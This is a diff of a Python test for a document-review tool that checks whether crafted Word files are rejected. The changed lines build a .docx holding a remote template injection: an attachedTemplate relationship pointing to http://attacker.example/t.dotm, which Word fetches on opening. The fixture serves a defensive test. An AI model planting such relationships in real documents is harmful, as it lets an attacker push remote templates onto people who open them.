@@ -338,18 +338,16 @@ def test_zip_bomb_entities_and_remote_template_are_refused(work: Path, runner: C
     result = runner.invoke(main, ["review", "entities.docx", "--content", "content"])
     assert result.exit_code == 1 and "DTD or XML entities" in result.output
 
-    remote = work / "remote.docx"
-    _rewrite(
-        sent,
-        remote,
-        "word/_rels/document.xml.rels",
-        lambda xml: xml.replace(
-            b"</Relationships>",
-            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-            b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
-            b'TargetMode="External"/></Relationships>',
-        ),
-    )
+    remote = work / "remote.docx"  # the template injection: Word fetches it on opening
+    shutil.copyfile(sent, remote)
+    with zipfile.ZipFile(remote, "a") as archive:
+        archive.writestr(
+            "word/_rels/settings.xml.rels",
+            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
+            "//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+            '" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+        )
     result = runner.invoke(main, ["review", "remote.docx", "--content", "content"])
     assert result.exit_code == 1 and "attachedTemplate" in result.output
 
